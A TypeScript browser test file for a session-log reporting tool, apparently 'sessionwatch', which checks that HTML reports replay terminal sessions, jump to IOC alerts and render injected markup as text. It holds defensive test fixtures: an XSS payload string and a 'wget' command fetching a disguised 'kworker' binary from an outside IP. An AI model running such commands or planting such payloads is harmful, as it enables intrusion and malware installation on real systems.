import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadPlayerAssets } from '../../forwarder/report/assets.js';
import type { ReportData } from '../../forwarder/report/model.js';
import { runCli } from '../helpers/cli.js';
import { EXAMPLE_SESSION_IDS } from '../helpers/example-sessions.js';
import { fixturesDir, sessionsDir } from '../helpers/paths.js';
import { type Browser, openBrowser, RESULTS } from './browser.js';

const IDS = EXAMPLE_SESSION_IDS;

const work = mkdtempSync(join(tmpdir(), 'sw-e2e-'));

function dataOf(html: string): ReportData {
  return JSON.parse(/<script type="application\/json" id="sw-data">([^<]*)<\/script>/.exec(html)![1]!) as ReportData;
}

/** The text the player's terminal shows, one string per row, trailing blanks dropped. */
async function terminalRows(page: Page): Promise<string[]> {
  const rows = await page.locator('#sw-player pre.ap-term-text .ap-line').allTextContents();
  return rows.map((r) => r.replace(/\s+$/, ''));
}

describe('the HTML report in chromium (file://, no network)', () => {
  let browser: Browser;
  let page: Page;
  let report: string;
  let data: ReportData;
  const pageErrors: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    report = join(work, 'report.html');
    const files = IDS.flatMap((id) => [join(sessionsDir, `${id}.log`), join(sessionsDir, `${id}.subscription.json`)]);
    const run = await runCli(['report', ...files, '--ioc', join(fixturesDir, 'iocs.txt'), '-o', report]);
    expect(run.stderr).toContain('6 sessions');
    expect(run.code).toBe(0);
    data = dataOf(readFileSync(report, 'utf8'));
    browser = await openBrowser();
    page = await browser.context.newPage();
    page.on('pageerror', (e) => pageErrors.push(e.message));
    page.on('console', (m) => {
      if (m.type() === 'error') pageErrors.push(m.text());
    });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(pathToFileURL(report).href);
  });

  afterAll(async () => {
    await browser?.close();
  });

  it('opens from file:// and lists the fixture sessions with who, where and when, and their alerts', async () => {
    expect(await page.title()).toBe('sessionwatch report');
    const sessionRows = page.locator('#sw-sessions tbody tr');
    expect(await sessionRows.count()).toBe(IDS.length);
    const sessionsText = await page.locator('#sw-sessions').textContent();
    for (const id of IDS) expect(sessionsText).toContain(id);
    expect(sessionsText).toContain('dana@example.com');
    expect(sessionsText).toContain('444455556666 / us-east-1 / i-0f1e2d3c4b5a69788');
    const alerts = data.sessions.flatMap((s) => s.alerts);
    expect(alerts.length).toBeGreaterThan(10);
    expect(await page.locator('#sw-alerts tbody tr').count()).toBe(alerts.length);
    const alertsText = await page.locator('#sw-alerts').textContent();
    for (const a of alerts) expect(alertsText).toContain(a.ruleId);
    // severity is text as well as colour
    expect(await page.locator('#sw-alerts tbody tr').first().locator('.sev').textContent()).toBe('HIGH');
  });

  it('a replay plays, then jumps to an alert: the terminal shows the alert command, not yet its output', async () => {
    await page.locator('#sw-sessions button.link', { hasText: 'mallory-09f8e7d6c5b4a3921' }).click();
    await page.locator('#sw-player .ap-player').waitFor();
    await page.locator('#sw-player .ap-overlay-start, #sw-player .ap-playback-button').first().click();
    await expect
      .poll(
        () =>
          page.evaluate(() =>
            (
              globalThis as unknown as { sessionwatchReport: { player(): { getCurrentTime(): number } } }
            ).sessionwatchReport
              .player()
              .getCurrentTime(),
          ),
        { timeout: 15_000 },
      )
      .toBeGreaterThan(1);
    expect((await terminalRows(page)).join('\n')).toContain('sh-5.2$ id');

    const mallory = data.sessions.find((s) => s.sessionId === 'mallory-09f8e7d6c5b4a3921')!;
    const alert = mallory.alerts.find((a) => a.ruleId === 'sw-ioc-contact' && a.command.startsWith('wget'))!;
    expect(alert.at).not.toBeNull();
    await page.locator(`#sw-session ul.alerts button[data-alert="${alert.id}"]`).click();
    await expect.poll(() => page.locator('#sw-status').textContent()).toContain(alert.command);
    await expect
      .poll(async () => (await terminalRows(page)).filter(Boolean).at(-1), { timeout: 10_000 })
      .toBe(`[root@ip-10-0-1-23 tmp]# ${alert.command}`);
    const time = await page.evaluate(() =>
      (globalThis as unknown as { sessionwatchReport: { player(): { getCurrentTime(): number } } }).sessionwatchReport
        .player()
        .getCurrentTime(),
    );
    expect(time).toBeCloseTo(alert.at!, 1);
    expect((await terminalRows(page)).join('\n')).not.toContain('Saving to:'); // wget's output comes later
    await page.screenshot({ path: join(RESULTS, 'report-replay.png'), fullPage: false });
  });

  it('every command of the timeline has a button that jumps the replay to it', async () => {
    const mallory = data.sessions.find((s) => s.sessionId === 'mallory-09f8e7d6c5b4a3921')!;
    const whoami = mallory.commands.find((c) => c.command === 'whoami')!;
    await page.locator(`#cmd-${whoami.seq} button.jump`).click();
    await expect
      .poll(async () => (await terminalRows(page)).filter(Boolean).at(-1), { timeout: 10_000 })
      .toBe('[root@ip-10-0-1-23 ~]# whoami');
  });

  it('the alert list jumps into another session', async () => {
    const jdoe = data.sessions.find((s) => s.sessionId.startsWith('jdoe@'))!;
    const alert = jdoe.alerts.find((a) => a.ruleId === 'sw-privesc-root-shell')!;
    await page.locator(`#sw-alerts button[data-alert="${alert.id}"]`).click();
    await expect.poll(() => page.locator('#sw-session h2').textContent()).toContain(jdoe.sessionId);
    await expect
      .poll(async () => (await terminalRows(page)).filter(Boolean).at(-1), { timeout: 10_000 })
      .toMatch(/\$ sudo bash$/);
  });

  it('made no network request and raised no error', () => {
    expect(browser.network).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});

describe('hostile transcripts and cast files in chromium', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('markup typed or printed in a session is shown as text, never run', async () => {
    const evil = `</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2;alert(2)">`;
    const log = join(work, 'eve-0a1b2c3d4e5f6a7b8.log');
    writeFileSync(
      log,
      [
        'Script started on 2026-10-06 22:47:03+00:00 [COMMAND="cat /var/lib/amazon/ssm/i-0f1e2d3c4b5a69788/session/orchestration/eve-0a1b2c3d4e5f6a7b8/Standard_Stream/ipcTempFile.log" <not executed on terminal>]',
        `\x1b[?2004hsh-5.2$ echo '${evil}' | sudo tee /etc/motd\r\r`,
        `\x1b[?2004l\r${evil}\r\r`,
        '\x1b[?2004hsh-5.2$ exit\r\r',
        '\x1b[?2004l\rexit\r\r',
        '',
        'Script done on 2026-10-06 22:48:03+00:00 [COMMAND_EXIT_CODE="0"]',
        '',
      ].join('\n'),
    );
    const out = join(work, 'evil.html');
    expect((await runCli(['report', log, '-o', out])).code).toBe(0);
    const page = await browser.context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(pathToFileURL(out).href);
    await page.locator('#sw-session ol.timeline').waitFor(); // one session: opened at once
    expect(await page.locator('#sw-session ol.timeline code.cmd').first().textContent()).toBe(
      `echo '${evil}' | sudo tee /etc/motd`,
    );
    expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.locator('img').count()).toBe(0);
    expect(dialogs).toEqual([]);
    await page.close();
  });

  it('a cast from "sessionwatch replay" plays to its end in asciinema-player', async () => {
    const cast = join(work, 'mallory.cast');
    const run = await runCli(['replay', join(sessionsDir, 'mallory-09f8e7d6c5b4a3921.log'), '--cast', cast]);
    expect(run.code).toBe(0);
    const player = await loadPlayerAssets();
    const page = join(work, 'cast.html');
    writeFileSync(
      page,
      `<!doctype html><meta charset="utf-8"><style>${player.css}</style><div id="p"></div>
<script>${player.js}</script>
<script type="application/json" id="cast">${JSON.stringify(readFileSync(cast, 'utf8')).replace(/</g, '\\u003c')}</script>
<script>
  window.ended = false;
  const p = AsciinemaPlayer.create({ data: JSON.parse(document.getElementById('cast').textContent) },
    document.getElementById('p'), { speed: 8, autoPlay: true });
  p.addEventListener('ended', () => { window.ended = true; });
  window.castPlayer = p;
</script>`,
    );
    const tab = await browser.context.newPage();
    await tab.goto(pathToFileURL(page).href);
    await expect
      .poll(() => tab.evaluate(() => (globalThis as unknown as { ended: boolean }).ended), { timeout: 30_000 })
      .toBe(true);
    const screen = (await tab.locator('pre.ap-term-text .ap-line').allTextContents())
      .map((row) => row.replace(/[ \u00a0]+$/, ''))
      .join('\n');
    expect(screen).toContain('[root@ip-10-0-1-23 tmp]# wget -q http://203.0.113.66/x86_64/kworker -O .kw');
    expect(screen).toMatch(/sh-5\.2\$ exit\s*\n\s*exit/);
    await tab.screenshot({ path: join(RESULTS, 'cast-end.png') });
    await tab.close();
  });
});
